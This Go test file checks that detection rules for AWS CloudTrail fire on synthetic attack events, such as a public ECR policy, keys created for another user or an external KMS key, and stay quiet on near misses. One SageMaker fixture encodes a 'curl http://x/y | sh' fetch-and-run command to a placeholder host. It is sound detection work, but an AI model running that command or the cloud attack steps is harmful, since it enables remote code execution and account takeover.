package detector

import (
	"path/filepath"
	"strings"
	"testing"

	"github.com/fluent-detect/fluent-detect/detector/ruleset"
)

// Each rule in ES|QL for AWS that is about one event: an event of ours that it must
// match, and a near miss.
func TestUpstreamESQL(t *testing.T) {
	dir := upstream(t)
	params := func(object string) string { return `"requestParameters":` + object }
	alice := `"userIdentity":{"type":"IAMUser","userName":"alice"}`
	script := func(text string) string {
		return params(`{"notebookInstanceLifecycleConfigName":"n","onStart":[{"content":"`+text+`"}]}`) + "," + alice
	}
	policy := func(principal string) string {
		return params(`{"policyText":"{\"Effect\": \"Allow\", \"Principal\": ` + principal + `}"}`)
	}
	copied := func(account string) string {
		return params(`{"bucketName":"dst","x-amz-server-side-encryption-aws-kms-key-id":"arn:aws:kms:eu-west-1:`+account+`:key/k-1",`+
			`"Host":"dst.s3.amazonaws.com","x-amz-server-side-encryption":"aws:kms","x-amz-copy-source":"src/o","key":"o"}`) +
			`,"recipientAccountId":"111122223333"`
	}
	upload := func(key string) string {
		return params(`{"bucketName":"b","Host":"b.s3.amazonaws.com","key":"`+key+`"}`) + `,"userAgent":"aws-cli",` + alice
	}
	cases := map[string]struct{ hit, miss string }{
		"exfiltration_ecr_repository_policy_granted_public_access": {
			aws("ecr", "SetRepositoryPolicy", policy(`\"*\"`)),
			aws("ecr", "SetRepositoryPolicy", policy(`\"arn:aws:iam::111122223333:root\"`))},
		"impact_bedrock_api_key_destructive_action": {
			aws("bedrock", "DeleteGuardrail", `"additionalEventData":{"callWithBearerToken":true}`),
			aws("bedrock", "DeleteGuardrail", `"additionalEventData":{"callWithBearerToken":false}`)},
		"impact_s3_object_encryption_with_external_key": {
			aws("s3", "CopyObject", copied("444455556666")), aws("s3", "CopyObject", copied("111122223333"))},
		"impact_s3_static_site_js_file_uploaded": {
			aws("s3", "PutObject", upload("static/js/main.js")), aws("s3", "PutObject", upload("static/js/main.js.map"))},
		"persistence_iam_user_created_access_keys_for_another_user": {
			aws("iam", "CreateAccessKey", params(`{"userName":"bob"}`)+","+alice),
			aws("iam", "CreateAccessKey", params(`{"userName":"alice"}`)+","+alice)},
		"persistence_sagemaker_lifecycle_config_suspicious_script_content": {
			aws("sagemaker", "CreateNotebookInstanceLifecycleConfig", script("Y3VybCBodHRwOi8veC95IHwgc2g=")), // curl http://x/y | sh
			aws("sagemaker", "CreateNotebookInstanceLifecycleConfig", script("cGlwIGluc3RhbGwgcGFuZGFz"))},    // pip install pandas
		"privilege_escalation_bedrock_phantom_user_credentials_added": {
			aws("iam", "CreateLoginProfile", params(`{"userName":"BedrockAPIKey-x1"}`)),
			aws("iam", "CreateLoginProfile", params(`{"userName":"bedrockapikey-x1"}`))},
	}
	rules, err := ruleset.Load(dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rules.Rules {
		name := strings.TrimSuffix(filepath.Base(r.Source.Path), ".toml")
		if _, ok := cases[name]; !ok && r.Query.Language == "esql" {
			t.Errorf("%s is not tested", name)
		}
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			for want, e := range []string{c.miss, c.hit} {
				b := newBench(t, "rules", filepath.Join(dir, name+".toml"))
				b.mustScan(e)
				if got := len(b.alerts()); got != want {
					t.Errorf("%s\n%d alerts, want %d", e, got, want)
				}
			}
		})
	}
}
